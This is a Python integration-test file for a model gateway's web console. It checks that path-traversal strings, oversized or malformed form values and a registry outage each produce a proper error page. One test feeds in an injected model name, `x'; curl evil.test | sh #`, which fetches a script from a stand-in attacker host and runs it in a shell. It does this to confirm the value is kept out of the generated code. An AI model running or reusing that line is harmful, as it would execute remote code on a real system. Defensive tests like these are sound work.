"""Addresses and forms of the console that no page of it makes: each is a page that says what is wrong."""

import http.client
from collections.abc import Iterator
from urllib.parse import quote, urlencode

import httpx
import pytest

from tests.integration.gateway.console_rig import browser, token_of

pytestmark = pytest.mark.integration


@pytest.fixture(scope="module")
def person(stack, counter) -> Iterator[httpx.Client]:
    with browser(stack) as client:
        yield client


def send(stack, person: httpx.Client, method: str, path: str, form: dict[str, str] | None = None):
    """Send a path as it is, which httpx would shorten; return the status and the page."""
    connection = http.client.HTTPConnection(stack.url.removeprefix("http://"), timeout=30)
    cookie = "; ".join(f"{name}={value}" for name, value in person.cookies.items())
    headers = {"accept": "text/html", "cookie": cookie, "sec-fetch-site": "same-origin"}
    if form is not None:
        headers["content-type"] = "application/x-www-form-urlencoded"
    connection.request(method, path, None if form is None else urlencode(form), headers)
    answer = connection.getresponse()
    page = answer.read().decode()
    connection.close()
    assert answer.getheader("content-type", "text/html").startswith("text/html"), page[:200]
    return answer.status, page


@pytest.mark.parametrize("dots", ["..", ".", "%2E%2E", "%2e", "%2E."])
@pytest.mark.parametrize("kind", ["revisions", "aliases", "rules"])
def test_a_name_of_dots_is_a_page_of_nothing(stack, person, kind, dots):
    status, _ = send(stack, person, "GET", f"/console/policies/counter/{kind}/{dots}")
    assert status == 404


@pytest.mark.parametrize("dots", ["..", "%2E%2E"])
def test_a_change_stays_in_its_place(stack, person, dots):
    stack.make_policy(f"kept-{len(dots)}", revisions=0)
    token = _token(person)
    path = f"/console/policies/kept-{len(dots)}/rules/{dots}/remove"
    status, _ = send(stack, person, "POST", path, {"form_token": token})
    assert status in {404, 405}
    assert person.get(f"/console/policies/kept-{len(dots)}").status_code == 200


@pytest.mark.parametrize("alias", ["..", ".", "prod/history", "prod?x=1", "a" * 5000, "\0", " "])
def test_a_new_alias_of_any_name_is_refused_at_a_page(stack, person, alias):
    form = {"form_token": _token(person), "alias": alias, "revision": "1", "reason": ""}
    status, page = send(stack, person, "POST", "/console/policies/counter/aliases", form)
    assert status in {404, 422}
    assert 'role="alert"' in page


@pytest.mark.parametrize("revision", ["1" * 5000, "\u0663", "-1", "x" * 5000, ""])
def test_a_number_of_any_length_is_refused_at_a_page(stack, person, revision):
    with stack.client() as mint:
        assert mint.put("/policies/counter/aliases/there", json={"revision": 1}).status_code == 200
    for alias in ("there", "not-there"):
        form = {"form_token": _token(person), "alias": alias, "revision": revision, "reason": ""}
        status, page = send(stack, person, "POST", "/console/policies/counter/aliases", form)
        assert status in {404, 422}
        assert 'role="alert"' in page
    form = {"form_token": _token(person), "models": "tiny", "max_tokens": revision, "prompt": "x"}
    status, page = send(stack, person, "POST", "/console/playground", form)
    assert status == 200
    assert "max_tokens" in page, "what the API refuses stands in the model's place"


@pytest.mark.parametrize(
    "address",
    [
        "/console/policies/" + quote("!" * 20_000),
        "/console/policies/counter?after=abc",
        "/console/jobs?state=" + "x" * 201,
        "/console/jobs/job_none/rollouts?step=0",
        "/console/find?q=" + "x" * 501,
    ],
)
def test_an_address_of_any_length_is_a_page(stack, person, address):
    status, page = send(stack, person, "GET", address)
    assert 400 <= status < 500
    assert "<h1>" in page


def test_code_names_no_model_that_would_be_run_as_code(person):
    page = person.get("/console/playground", params={"model": "x'; curl evil.test | sh #"}).text
    (code,) = [part for part in page.split("<details") if "As code" in part]
    assert "evil" not in code
    assert "POLICY" in code


def test_a_long_address_comes_back_to_the_overview(stack):
    with httpx.Client(base_url=stack.url, headers={"accept": "text/html"}) as client:
        sent = client.get("/console/policies", params={"labels": "x" * 4000})
        assert sent.headers["location"] == "/console/signin?next=%2Fconsole"
        assert client.get(sent.headers["location"]).status_code == 200


def test_a_registry_that_is_away_is_said_at_a_page(stack, person):
    token = _token(person)
    stack.kill("registry")
    try:
        status, page = send(stack, person, "POST", "/console/policies/counter/aliases", {"form_token": token})
        assert status == 503
        assert 'role="alert"' in page
    finally:
        stack.start("registry")


def _token(person: httpx.Client) -> str:
    return token_of(person.get("/console/policies/counter"))
